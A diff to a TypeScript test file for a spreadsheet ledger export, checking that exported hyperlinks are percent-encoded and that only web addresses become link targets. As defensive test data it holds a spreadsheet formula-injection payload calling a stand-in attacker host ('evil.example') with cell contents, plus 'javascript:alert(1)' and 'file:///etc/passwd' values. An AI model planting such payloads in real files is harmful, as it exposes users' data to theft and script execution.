@@ -9,7 +9,7 @@ import { db } from '../../cloudfunctions/common/cloud';
 import { buildPlanDocs } from '../../cloudfunctions/common/domain/plan-docs';
 import { landscapeScale, textHeight } from '../../cloudfunctions/common/domain/print-layout';
 import { LEDGER_COLUMNS, LEDGER_PAPER, LINKS_SHEET, SUMMARY_SHEETS } from '../../cloudfunctions/ledger/src/actions/export';
-import { BODY_PT, OPEN_LINK_TEXT } from '../../cloudfunctions/ledger/src/xlsx';
+import { BODY_PT, linkTarget, OPEN_LINK_TEXT } from '../../cloudfunctions/ledger/src/xlsx';
 import type { ReportDoc } from '../../cloudfunctions/common/records';
 import { DIRECTORY, TABLE_2021 } from '../../cloudfunctions/common/table';
 import { uploadPrefix, type RoundView } from '../../miniprogram/shared/api';
@@ -32,6 +32,8 @@ const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1
 /** Tasks on which 市司法局 reports one injection each (11 and 25 name it; the others reach it as a department). */
 const TASKS = [11, 25, 2, 3, 18, 19];
 const SSFJ = CONTACTS.ssfj;
+/** A link as stored by an older client: a query with `&` and Chinese, written as typed. */
+const STORED_LINK = 'https://www.zoucheng.gov.cn/search?q=政务公开&page=2';
 
 let t: TestCloud;
 let q3: RoundView;
@@ -85,7 +87,7 @@ beforeAll(async () => {
       evidence: {
         images: [{ fileID: 'cloud://local-dev.x/units/ssfj/gone.jpg', name: `${text}.jpg`, size: 1 }],
         files: [],
-        links: [{ url: 'https://www.zoucheng.gov.cn/', title: text }],
+        links: [{ url: STORED_LINK, title: text }],
       },
       secrecyConfirmed: true,
       state: 'submitted',
@@ -276,20 +278,29 @@ test('the 证明链接 sheet: one row per link in ledger order, its URL as writt
     // The title exactly as typed, kept text by the quote-prefix style, as in the ledger.
     expect(row.getCell(4).text).toBe(text.replace(/\r/g, '\n'));
     expect(cellTypeInXml(xml, `D${row.number}`)).toBe('inlineStr');
-    const url = i < 4 ? 'https://www.zoucheng.gov.cn/art/1.html' : 'https://www.zoucheng.gov.cn/';
+    const url = i < 4 ? 'https://www.zoucheng.gov.cn/art/1.html' : STORED_LINK;
     expect(row.getCell(5).text).toBe(url);
-    expect(row.getCell(6).value).toEqual({ text: OPEN_LINK_TEXT, hyperlink: url });
+    // The target is the parsed address (percent-encoded), the text what the contact wrote.
+    const href = new URL(url).href;
+    expect(row.getCell(6).value).toEqual({ text: OPEN_LINK_TEXT, hyperlink: href });
     expect(row.getCell(7).text).toBe('链接尚未检查');
     // The hyperlink is the sheet's relationship to an external target, never a HYPERLINK() formula.
     const rId = new RegExp(`<hyperlink ref="F${row.number}" r:id="(rId\\d+)"`).exec(xml)?.[1];
     expect(rId).toBeDefined();
     expect(rels).toContain(
-      `Id="${rId}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${url}" TargetMode="External"`,
+      `Id="${rId}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${href.replace(/&/g, '&amp;')}" TargetMode="External"`,
     );
   }
   expect(links.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
   // The ledger's cells keep their text and carry no link: LibreOffice would print them on one line.
   expect(sheetXml(xlsx, 1)).not.toContain('<hyperlink ');
+});
+
+test('only a web address becomes a link target', () => {
+  expect(linkTarget('https://www.zoucheng.gov.cn/a b?x=1&y=中')).toBe('https://www.zoucheng.gov.cn/a%20b?x=1&y=%E4%B8%AD');
+  expect(linkTarget('http://例子.政务/')).toBe('http://xn--fsqu00a.xn--zfr164b/');
+  for (const bad of ['javascript:alert(1)', 'file:///etc/passwd', 'ftp://a.gov.cn/', 'www.zoucheng.gov.cn', ''])
+    expect(linkTarget(bad)).toBeNull();
 });
 
 test('the summary counts per task and per unit, in directory order', () => {
